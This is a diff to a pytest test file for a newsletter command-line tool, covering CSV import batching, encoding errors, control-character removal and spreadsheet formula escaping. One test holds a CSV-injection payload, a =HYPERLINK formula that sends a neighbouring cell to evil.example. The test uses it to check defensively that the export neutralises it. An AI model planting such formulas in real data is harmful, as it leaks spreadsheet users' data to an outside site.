@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import subprocess
 import sys
@@ -9,7 +11,9 @@ from pathlib import Path
 
 import pytest
 
-from tests.factories import write_file
+from newsletter.config import load_settings
+from newsletter.signup import parse_signup
+from tests.factories import csv_text, write_file
 
 ROOT = Path(__file__).resolve().parent.parent
 
@@ -20,6 +24,10 @@ SPREADSHEET = (
     "pas-une-adresse;Erreur;;\r\n"
     "aicha@exemple.ma;Aïcha Ouédraogo;Culture;\r\n"
 )
+
+
+# More rows than one import batch.
+LONG_LIST = "".join(f"r{n}@exemple.ma\r\n" for n in range(25_000))
 
 
 class Cli:
@@ -83,6 +91,15 @@ def test_strict_import_writes_nothing(cli: Cli, tmp_path: Path) -> None:
     assert "nothing imported" in result.stdout
     assert cli("export").stdout.splitlines() == ["email,name,categories,locale,status"]
 
+    # Longer than one import batch, the bad row last: still nothing written. Then the clean file
+    # imports whole (--strict reads it twice; the BOM must be skipped both times).
+    write_file(tmp_path / "long.csv", "email\r\n" + LONG_LIST + "broken\r\n", bom=True)
+    assert cli("import", "--strict", "long.csv").returncode == 1
+    assert cli("export").stdout.splitlines() == ["email,name,categories,locale,status"]
+    write_file(tmp_path / "long.csv", "email\r\n" + LONG_LIST, bom=True)
+    result = cli("import", "--strict", "long.csv")
+    assert result.stdout.strip() == "long.csv: 25000 added, 0 updated, 0 unchanged, 0 rejected"
+
 
 @pytest.mark.parametrize(
     ("name", "content", "message"),
@@ -90,6 +107,12 @@ def test_strict_import_writes_nothing(cli: Cli, tmp_path: Path) -> None:
         ("missing.csv", None, "no such file"),
         ("no_email.csv", "nom;prenom\nA;B\n", "no 'email' column"),
         ("latin1.csv", "email\nzoé@example.com\n".encode("latin-1"), "not UTF-8"),
+        # Unusable only far after the first import batch: still nothing written.
+        (
+            "late_latin1.csv",
+            ("email\n" + LONG_LIST + "zoé@example.com\n").encode("latin-1"),
+            "not UTF-8 text (near line",
+        ),
     ],
 )
 def test_unreadable_files_exit_2(
@@ -102,6 +125,8 @@ def test_unreadable_files_exit_2(
     result = cli("import", name)
     assert result.returncode == 2
     assert result.stderr.startswith("error: ") and message in result.stderr
+    assert result.stderr.count("\n") == 1
+    assert cli("export").stdout.splitlines() == ["email,name,categories,locale,status"]
 
 
 def test_export_then_import_into_an_empty_database_round_trips(cli: Cli, tmp_path: Path) -> None:
@@ -150,3 +175,71 @@ def test_errors_are_one_line_with_the_right_exit_code(cli: Cli) -> None:
     assert unknown.stderr.strip() == (
         "error: nobody@example.com is not on the list (see `newsletter subscribers list`)"
     )
+
+
+# A sign-up name that, opened in a spreadsheet, would send the next cell to another site.
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Cliquez ici")'
+FORMULA_NAMES = [HYPERLINK, "+212 6 12 34 56", "-moins", "@SUM(A1:A9)", "Ordinaire"]
+
+
+def test_export_escapes_formula_cells_and_import_round_trips_them(cli: Cli, tmp_path: Path) -> None:
+    rows = [["email", "name"]] + [
+        [f"f{n}@exemple.ma", name] for n, name in enumerate(FORMULA_NAMES)
+    ]
+    write_file(tmp_path / "in.csv", csv_text(rows))
+    assert cli("import", "in.csv").returncode == 0
+    # A name that really starts with ' and a trigger (typed by hand, not escaped by an export).
+    assert cli("add", "quote@exemple.ma", "--name", "'=déjà échappé").returncode == 0
+
+    exported = cli("export")
+    names = [row[1] for row in csv.reader(io.StringIO(exported.stdout, newline=""))][1:]
+    assert names == [f"'{n}" for n in FORMULA_NAMES[:4]] + ["Ordinaire", "''=déjà échappé"]
+    assert not any(cell[:1] in "=+-@\t\r" for cell in names)
+
+    write_file(tmp_path / "export.csv", exported.stdout)
+    other = Cli(tmp_path)
+    other.env["NEWSLETTER_DATABASE_URL"] = f"sqlite:///{tmp_path / 'other' / 'list.db'}"
+    assert other("import", "export.csv").returncode == 0
+    assert other("export").stdout == exported.stdout
+    listed = other("list").stdout
+    assert HYPERLINK[:20] in listed and "'=déjà échappé" in listed and "'-moins" not in listed
+
+
+def test_control_characters_are_dropped_from_names_on_every_input_path(
+    cli: Cli, tmp_path: Path
+) -> None:
+    dirty = "Jo\x07sé\x1b[31m\x9b Dupont\x7f\tde la\nTour"
+    assert cli("add", "cli@exemple.ma", "--name", dirty).returncode == 0
+    write_file(
+        tmp_path / "dirty.csv", csv_text([["email", "name"], ["csv@exemple.ma", f"\x00{dirty}"]])
+    )
+    assert cli("import", "dirty.csv").returncode == 0
+    form = parse_signup(load_settings(environ={}), "web@exemple.ma", dirty, [])
+
+    clean = "José[31m Dupont de la Tour"
+    assert form.name == clean
+    exported = cli("export").stdout
+    listed = cli("list").stdout
+    for output in (exported, listed):
+        assert not any((ord(c) < 32 and c not in "\r\n") or 0x7F <= ord(c) <= 0x9F for c in output)
+    assert f"cli@exemple.ma,{clean},,,active" in exported
+    assert f"csv@exemple.ma,{clean},,,active" in exported
+    assert clean in listed
+
+
+def test_a_rejected_huge_value_is_echoed_cut_to_80_characters(cli: Cli, tmp_path: Path) -> None:
+    huge = "x" * 1_000_000
+    rows = [
+        ["email", "locale", "status"],
+        [huge + "@exemple.ma", "", ""],
+        ["a@exemple.ma", huge, ""],
+        ["b@exemple.ma", "", huge],
+    ]
+    write_file(tmp_path / "huge.csv", csv_text(rows))
+    result = cli("import", "huge.csv")
+    assert result.returncode == 1
+    lines = result.stderr.splitlines()
+    assert len(lines) == 3 and all(len(line) < 400 for line in lines), result.stderr[:2000]
+    assert lines[0].startswith(f"line 2: '{'x' * 79}…': ")
+    assert f"unknown locale '{'x' * 79}…'" in lines[1]
+    assert f"unknown status '{'x' * 79}…'" in lines[2]
